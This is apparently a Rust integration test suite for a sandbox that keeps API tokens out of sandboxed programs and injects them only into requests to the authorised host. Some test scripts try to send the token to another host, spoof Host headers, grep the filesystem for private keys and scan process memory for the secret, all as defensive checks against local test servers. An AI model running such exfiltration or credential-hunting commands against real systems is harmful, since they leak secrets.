//! Secrets that programs use and never have: clients as people use them, and whoever looks for the secret.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use bailiwick_model::{FlowNote, Reason};
use bailiwick_testkit::{
    Authority, Bailiwick, GitHttpsServer, GitRepository, HttpsServer, LeakCheck, Run, User,
    descendants, file_with, has, memory_has,
};

use crate::support::{PATIENCE, PYTHON, everyone, everyone_as_anyone, run_as, with_options};

const NAME: &str = "api.test";
/// Long enough that nothing else has it by chance.
const SECRET: &str = "canary-4f1d9a7c2e8b-canary";

/// What a run needs to send the secret to `api.test` and reach another server besides.
struct World {
    authority: Authority,
    api: HttpsServer,
    other: HttpsServer,
}

impl World {
    fn new() -> Self {
        let authority = Authority::new();
        Self {
            api: HttpsServer::start(&authority, &[NAME]),
            other: HttpsServer::start(&authority, &["other.test"]),
            authority,
        }
    }

    /// `options` narrow where the placeholder is replaced.
    fn run<'a>(&self, bailiwick: &'a Bailiwick, options: &str) -> Run<'a> {
        // A line end is none of the secret.
        let file = bailiwick.write(secret_file(bailiwick), format!("{SECRET}\n"));
        bailiwick
            .run()
            .allowing(&["other.test"])
            .resolve(NAME, self.api.address())
            .resolve("other.test", self.other.address())
            .option("--ca")
            .option(self.authority.certificate())
            .option("--credential")
            .option(format!("API_TOKEN={},host={NAME}{options}", file.display()))
    }

    fn url(&self) -> String {
        format!("https://{NAME}:{}", self.api.address().port())
    }
}

fn secret_file(bailiwick: &Bailiwick) -> PathBuf {
    bailiwick.home().join("token")
}

/// The same with the clients that people have. Each prints what the server says that it was sent.
fn clients(url: &str) -> String {
    format!(
        r#"set -e
curl -sS -H "Authorization: Bearer $API_TOKEN" {url}/curl
env -i API_TOKEN="$API_TOKEN" PATH="$PATH" curl -sS -H "Authorization: Bearer $API_TOKEN" {url}/curl-without-variables
curl -sS -u "user:$API_TOKEN" {url}/basic
{PYTHON} -c 'import os, requests; print(requests.get("{url}/requests", headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}}).text)'
env -i API_TOKEN="$API_TOKEN" {PYTHON} -c 'import os, urllib.request as u; print(u.urlopen(u.Request("{url}/urllib", headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}})).read())'
NODE_OPTIONS= node -e 'fetch("{url}/node", {{headers: {{Authorization: "Bearer " + process.env.API_TOKEN}}}}).then(r => r.text()).then(console.log)'
"#
    )
}

#[test]
fn programs_use_a_secret_that_they_never_have() {
    let _leaks = LeakCheck::begin();
    for (bailiwick, options) in everyone_as_anyone() {
        let world = World::new();
        let run = with_options(world.run(&bailiwick, ""), options);
        let outcome = run
            .patience(PATIENCE)
            .script(&clients(&world.url()))
            .success();
        let requests = world.api.requests();
        let paths: BTreeSet<_> = requests
            .iter()
            .filter_map(|request| request["path"].as_str())
            .collect();
        let expected = [
            "/basic",
            "/curl",
            "/curl-without-variables",
            "/node",
            "/requests",
            "/urllib",
        ];
        assert_eq!(paths.into_iter().collect::<Vec<_>>(), expected);
        for request in &requests {
            // The control: the server has it.
            let sent = request["headers"]["Authorization"]
                .as_str()
                .or_else(|| request["headers"]["authorization"].as_str())
                .expect("a header");
            let expected = if request["path"] == "/basic" {
                // user:canary-4f1d9a7c2e8b-canary
                "Basic dXNlcjpjYW5hcnktNGYxZDlhN2MyZThiLWNhbmFyeQ==".to_owned()
            } else {
                format!("Bearer {SECRET}")
            };
            assert_eq!(sent, expected, "{request}");
        }
        let told = format!("{}{}{:?}", outcome.stdout, outcome.stderr, outcome.flows);
        assert!(
            !told.contains("canary") && !told.contains("Y2FuYXJ5"),
            "{told}"
        );
        assert!(outcome.stdout.contains("********"), "{}", outcome.stdout);
        let flows = outcome.flows_to(&world.url()["https://".len()..]);
        assert!(
            flows.iter().all(|flow| flow.notes == [FlowNote::Inspected]),
            "{flows:?}"
        );
    }
}

/// Java has certificates of its own, which no variable adds to.
const JAVA: &str = r#"
cat > /tmp/Probe.java <<'END'
import java.net.*;
public class Probe {
    public static void main(String[] arguments) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL(arguments[0]).openConnection();
        connection.setRequestProperty("X-Key", System.getenv("API_TOKEN"));
        System.out.println(connection.getResponseCode());
    }
}
END
java /tmp/Probe.java WORLD/java
"#;

#[test]
fn java_uses_a_secret_that_it_never_has() {
    let _leaks = LeakCheck::begin();
    for bailiwick in everyone() {
        let world = World::new();
        let run = world.run(&bailiwick, "").patience(PATIENCE);
        let outcome = run.script(&JAVA.replace("WORLD", &world.url())).success();
        assert_eq!(outcome.stdout, "200\n");
        assert_eq!(world.api.requests()[0]["headers"]["X-Key"], SECRET);
    }
}

/// What is sent to whom, and in which part of a request.
const MISLED: &str = r#"
curl -sS -H "X-Key: $API_TOKEN" OTHER/header
curl -sS -d "$API_TOKEN" OTHER/body
curl -sS -H "Host: api.test" -H "X-Key: $API_TOKEN" OTHER/host || true
curl -sS --connect-to api.test::other.test: -H "X-Key: $API_TOKEN" APIURL/connect-to || true
curl -sS -H "Host: other.test" -H "X-Key: $API_TOKEN" APIURL/spoofed || true
curl -sS -d "$API_TOKEN" APIURL/body
curl -sS "APIURL/query?key=$API_TOKEN"
curl -sS -H "X-$API_TOKEN: 1" APIURL/name
curl -sS -X TRACE -H "X-Key: $API_TOKEN" APIURL/trace || true
curl -sS -H "X-Key: $API_TOKEN" APIURL/control
"#;

#[test]
fn a_secret_sent_to_another_host_or_in_another_place_is_blocked() {
    let _leaks = LeakCheck::begin();
    for bailiwick in everyone() {
        let world = World::new();
        let other = format!("https://other.test:{}", world.other.address().port());
        let script = MISLED
            .replace("OTHER", &other)
            .replace("APIURL", &world.url());
        let outcome = world.run(&bailiwick, "").script(&script).success();
        let reached = |server: &HttpsServer| {
            let requests = server.requests();
            let told = |request: &serde_json::Value| {
                let path = request["path"].as_str().unwrap_or_default();
                let path = path.split('?').next().unwrap_or_default().to_owned();
                (path, request.to_string().contains(SECRET))
            };
            requests.iter().map(told).collect::<Vec<_>>()
        };
        // A name is what was dialled, so that --connect-to leads to the other server as the other server.
        let reached_other = reached(&world.other);
        assert!(
            reached_other.len() >= 2 && reached_other.iter().all(|(_, secret)| !secret),
            "{reached_other:?}"
        );
        assert!(
            world.other.requests()[0]
                .to_string()
                .contains("bw_placeholder_")
        );
        let expected = [
            ("/body", false),
            ("/query", false),
            ("/name", false),
            ("/control", true),
        ];
        let expected: Vec<_> = expected
            .iter()
            .map(|(path, secret)| ((*path).to_owned(), *secret))
            .collect();
        assert_eq!(reached(&world.api), expected);
        let flows = outcome.flows_to(&world.url()["https://".len()..]);
        for reason in [Reason::HostMismatch, Reason::CredentialRequest] {
            assert!(
                flows.iter().any(|flow| flow.reason == reason),
                "{reason:?}: {flows:?}"
            );
        }
        assert!(!outcome.stdout.contains(SECRET));
    }
}

#[test]
fn a_placeholder_of_another_sandbox_is_a_text_like_any_other() {
    let _leaks = LeakCheck::begin();
    for bailiwick in everyone() {
        let world = World::new();
        let first = world
            .run(&bailiwick, "")
            .script("printf %s \"$API_TOKEN\"")
            .success();
        let stolen = first.stdout;
        assert!(stolen.starts_with("bw_placeholder_"));
        let script = format!("curl -sS -H 'X-Key: {stolen}' {}/stolen", world.url());
        world.run(&bailiwick, "").script(&script).success();
        let requests = world.api.requests();
        assert_eq!(requests[0]["headers"]["X-Key"], stolen.as_str());
    }
}

#[test]
fn git_fetches_and_pushes_with_a_password_that_it_never_has() {
    let _leaks = LeakCheck::begin();
    for bailiwick in everyone() {
        let authority = Authority::new();
        let repository = GitRepository::new("app");
        repository.write("file", "content").commit("first");
        let server = GitHttpsServer::start(
            &authority,
            &["git.test"],
            repository.root(),
            &format!("x:{SECRET}"),
        );
        let file = bailiwick.write(secret_file(&bailiwick), SECRET);
        let run = bailiwick
            .run()
            .allowing(&[])
            .resolve("git.test", server.address())
            .option("--ca")
            .option(authority.certificate())
            .option("--credential")
            .option(format!("GIT_TOKEN={},host=git.test", file.display()));
        let port = server.address().port();
        let script = format!(
            "cd /tmp && git clone -q https://x:$GIT_TOKEN@git.test:{port}/app.git app 2>&1 || git clone -q https://x:$GIT_TOKEN@git.test:{port}/app app; cat app/file; grep -r canary app/.git /home/agent; cat app/.git/config"
        );
        let outcome = run.patience(PATIENCE).script(&script).success();
        assert!(outcome.stdout.contains("content"), "{outcome:#?}");
        assert!(!outcome.stdout.contains("canary") && outcome.stdout.contains("bw_placeholder_"));
    }
}

#[test]
fn a_secret_that_the_program_could_read_is_refused() {
    for bailiwick in everyone() {
        bailiwick.write("token", SECRET);
        let run = bailiwick
            .run()
            .option("--credential")
            .option("T=token,host=api.test");
        let outcome = run.script("true").exits(2);
        assert!(
            outcome.stderr.contains("keep the secret elsewhere"),
            "{}",
            outcome.stderr
        );
        assert!(!outcome.stderr.contains(SECRET));
    }
}

#[test]
fn a_server_whose_certificate_is_not_trusted_gets_no_secret() {
    let _leaks = LeakCheck::begin();
    for bailiwick in everyone() {
        let world = World::new();
        let stranger = HttpsServer::start(&Authority::new(), &[NAME]);
        let run = bailiwick.run().resolve(NAME, stranger.address());
        let file = bailiwick.write(secret_file(&bailiwick), SECRET);
        let run = run.option("--ca").option(world.authority.certificate());
        let run = run
            .option("--credential")
            .option(format!("T={},host={NAME}", file.display()));
        let url = format!("https://{NAME}:{}/", stranger.address().port());
        let outcome = run
            .script(&format!("curl -sSk -H \"X-Key: $T\" {url}"))
            .exits(35);
        assert!(stranger.requests().is_empty());
        let flows = outcome.flows_to(&url["https://".len()..url.len() - 1]);
        assert_eq!(flows[0].reason, Reason::UpstreamCertificate);
    }
}

#[test]
fn a_secret_in_use_is_nowhere_in_the_sandbox_or_in_what_is_told_of_it() {
    let _leaks = LeakCheck::begin();
    if !User::current().is_root() {
        eprintln!("skipped: the memory of other users' processes is root's to read");
        return;
    }
    for (bailiwick, options) in everyone_as_anyone() {
        let world = World::new();
        let flows = bailiwick.home().join("canary.jsonl");
        let _ = fs::remove_file(&flows);
        let script = format!(
            "curl -sS -H \"X-Key: $API_TOKEN\" {url}/ >answer; curl -sS -H \"X-Key: $API_TOKEN\" -H 'Host: evil.test' {url}/ >>answer; echo ready; exec {PYTHON} -c 'import os, time; held = os.environ[\"API_TOKEN\"]; time.sleep(600)'",
            url = world.url()
        );
        let run = with_options(world.run(&bailiwick, ""), options);
        let mut child = run
            .option("--flows")
            .option(&flows)
            .start(["sh", "-c", &script]);
        child.wait_for("the request", |line| (line == "ready").then_some(()));
        let inside = descendants(child.id());
        assert!(inside.len() >= 2, "the init and the program: {inside:?}");
        for pid in &inside {
            assert!(
                !memory_has(*pid, SECRET.as_bytes()),
                "process {pid} has the secret"
            );
            for name in ["environ", "cmdline"] {
                let content = fs::read(format!("/proc/{pid}/{name}")).expect("a file of proc");
                assert!(!has(&content, SECRET.as_bytes()), "{name} of {pid}");
            }
        }
        // The controls: this search finds what is there, in the sandbox and in the holder.
        let program = inside.last().expect("a program");
        assert!(memory_has(*program, b"bw_placeholder_"));
        assert!(memory_has(child.id(), SECRET.as_bytes()));
        assert!(world.api.requests()[0].to_string().contains(SECRET));

        let root = format!("/proc/{program}/root");
        for directory in [
            "workspace",
            "home",
            "tmp",
            "etc/bailiwick",
            "var/tmp",
            "run",
        ] {
            let found = file_with(&Path::new(&root).join(directory), SECRET.as_bytes());
            assert_eq!(found, None);
        }
        child.signal(rustix::process::Signal::TERM);
        child.wait(PATIENCE);
        let told = [
            child.printed(),
            child.complained(),
            fs::read_to_string(&flows).expect("flows"),
        ];
        assert!(told[2].contains("inspected"), "{}", told[2]);
        assert!(told.iter().all(|text| !text.contains(SECRET)));
        let answer = fs::read_to_string(bailiwick.workspace().join("answer")).expect("the answer");
        assert!(
            answer.contains("host_mismatch") && !answer.contains(SECRET),
            "{answer}"
        );
    }
}

#[test]
fn the_key_of_a_sandboxs_authority_never_is_in_the_sandbox() {
    let _leaks = LeakCheck::begin();
    for bailiwick in everyone() {
        let world = World::new();
        let script = "grep -c BEGIN /etc/bailiwick/ca-bundle.pem; grep -rlE 'PRIVATE KEY' /etc /home /tmp /run /workspace 2>/dev/null || echo none; ls -l /proc/1/fd 2>&1 | tail -1";
        let outcome = world.run(&bailiwick, "").script(script).success();
        assert!(outcome.stdout.contains("\nnone\n"), "{}", outcome.stdout);
        // Another sandbox has another authority, and one without credentials none.
        let bundle = |run: Run<'_>| run.script("tail -c 700 $SSL_CERT_FILE").success().stdout;
        assert_ne!(
            bundle(world.run(&bailiwick, "")),
            bundle(world.run(&bailiwick, ""))
        );
        let plain = run_as(&bailiwick, &[])
            .script("test -e /etc/bailiwick/ca-bundle.pem")
            .exits(1);
        assert!(plain.stdout.is_empty());
    }
}
